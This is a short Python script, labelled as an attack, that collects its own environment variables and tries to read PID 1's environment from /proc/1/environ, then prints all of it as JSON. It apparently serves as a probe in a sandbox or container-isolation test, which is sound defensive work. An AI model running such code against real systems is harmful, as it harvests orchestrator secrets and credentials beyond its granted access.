# Attack: read the orchestrator's secrets from the environment, ours or init's.
import json
import os

seen = dict(os.environ)
try:
    seen["pid1"] = open("/proc/1/environ", "rb").read().decode(errors="replace")
except OSError as exc:
    seen["pid1"] = f"unreadable: {exc.__class__.__name__}"
print("ENV " + json.dumps(seen), flush=True)
